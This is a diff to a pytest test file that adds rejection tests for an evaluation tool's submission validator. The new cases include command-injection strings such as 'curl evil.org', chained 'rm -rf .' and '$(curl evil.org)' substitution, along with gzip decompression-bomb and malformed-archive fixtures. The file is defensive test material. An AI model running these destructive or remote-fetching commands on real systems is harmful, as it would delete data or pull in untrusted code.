@@ -5,6 +5,7 @@ import os
 import pytest
 from helpers_submission import Draft, assert_refused
 
+from oodd_eval.packed import pack
 from oodd_eval.splits import published_digests
 
 MINI = published_digests()["mini"]
@@ -60,6 +61,18 @@ FIELDS = {
     "html-in-citation": (entry(citation="see <a href=x>"), "citation", "contains '<'"),
     "link-in-caption": (entry(caption="[x](javascript:1)"), "caption", "contains ']('"),
     "control-character": (entry(citation="a\x1b[31mred"), "citation", "control character '\\x1b'"),
+    "another-program": (entry(command="curl evil.org"), "command", "expected oodd-eval run"),
+    "another-command": (entry(command="oodd-eval data build x"), "command", "expected oodd-eval"),
+    "chained-program": (
+        entry(command="oodd-eval run --env ant && rm -rf ."), "command", "is 'rm -rf .'",
+    ),
+    "chained-by-semicolon": (
+        entry(command="oodd-eval run --env ant; rm -rf ."), "command", "expected plain words",
+    ),
+    "command-in-command": (
+        entry(command="oodd-eval run --env $(curl evil.org)"), "command", "expected plain words",
+    ),
+    "open-quote": (entry(command="oodd-eval run 'x"), "command", "expected oodd-eval run"),
     "reversed-text": (entry(caption="a\u202eb"), "caption", "control character '\\u202e'"),
     "two-lines": (entry(command="a\nb"), "command", "control character '\\n'"),
     "javascript-url": (entry(url="javascript:alert(1)"), "url", "expected an http or https"),
@@ -167,7 +180,7 @@ def extra(name, content=b"x"):
     def change(d):
         d.write()
         d.file(name).parent.mkdir(parents=True, exist_ok=True)
-        d.file(name).write_bytes(content)
+        d.file(name).write_bytes(content() if callable(content) else content)
 
     return change
 
@@ -206,6 +219,26 @@ def removed(name):
     return change
 
 
+def packed(content, name="records.jsonl"):
+    def change(d):
+        d.write()
+        if name == "entry.json":
+            d.file(name).rename(d.file(f"{name}.gz"))
+        else:
+            d.packed(name, content() if callable(content) else content)
+
+    return change
+
+
+def both(first, second):
+    def change(d):
+        first(d)
+        second(d)
+        d.seal()
+
+    return change
+
+
 NESTED = b"[" * 100_000 + b"]" * 100_000
 
 FILES = {
@@ -220,8 +253,8 @@ FILES = {
         "control characters",
     ),
     "not-utf8-records": (
-        raw("records.jsonl", lambda b: b.replace(b"ok", b"\xff\xfe", 1)), "records.jsonl:1",
-        "is not UTF-8",
+        raw("records.jsonl", lambda b: b.replace(b"ok", b"\xff\xfe", 1)), "records.jsonl",
+        "is not UTF-8: invalid start byte in line 1",
     ),
     "not-utf8-entry": (raw("entry.json", lambda b: b + b"\xff"), "entry.json", "is not UTF-8"),
     "not-json": (raw("entry.json", lambda _: b"title: x"), "entry.json", "is not JSON"),
@@ -267,6 +300,30 @@ FILES = {
     "linked-entry": (symlink("entry.json"), "entry.json", "is a symbolic link"),
     "linked-directory": (link_to_a_directory, "scores", "is a symbolic link"),
     "pipe": (pipe, "records.jsonl", "is no plain file"),
+    "packed-and-plain": (
+        extra("records.jsonl.gz", pack(b"{}")), "records.jsonl.gz", "is there beside records.jsonl",
+    ),
+    "packed-bomb": (
+        packed(lambda: pack(b" " * 64_000_001)), "records.jsonl.gz",
+        "unpacks to more than 64000000 bytes",
+    ),
+    "packed-large": (packed(lambda: b"x" * 8_000_001), "records.jsonl.gz", "at most 8000000"),
+    "packed-cut-off": (packed(pack(b"{}\n")[:-3]), "records.jsonl.gz", "but cut off"),
+    "packed-with-a-tail": (packed(pack(b"{}\n") + b"x"), "records.jsonl.gz", "something behind"),
+    "packed-twice-in-a-row": (packed(pack(b"{}\n") * 2), "records.jsonl.gz", "something behind"),
+    "packed-otherwise": (
+        packed(b"\xfd7zXZ\x00"), "records.jsonl.gz", "is damaged or not packed by gzip",
+    ),
+    "packed-nonsense": (packed(pack(b"hello\n")), "records.jsonl.gz:1", "is not JSON"),
+    "packed-not-utf8": (packed(pack(b"\xff\n")), "records.jsonl.gz", "is not UTF-8"),
+    "packed-entry": (packed(None, "entry.json"), "entry.json.gz", "is no file of an entry"),
+    "packed-curves-bomb": (
+        both(
+            extra("curves.json.gz", lambda: pack(b" " * 16_000_001)),
+            names_a_file("curves.json.gz"),
+        ),
+        "curves.json.gz", "unpacks to more than 16000000 bytes",
+    ),
     "records-removed": (removed("records.jsonl"), "records.jsonl", "is missing"),
     "entry-removed": (removed("entry.json"), "entry.json", "is missing"),
 }  # fmt: skip
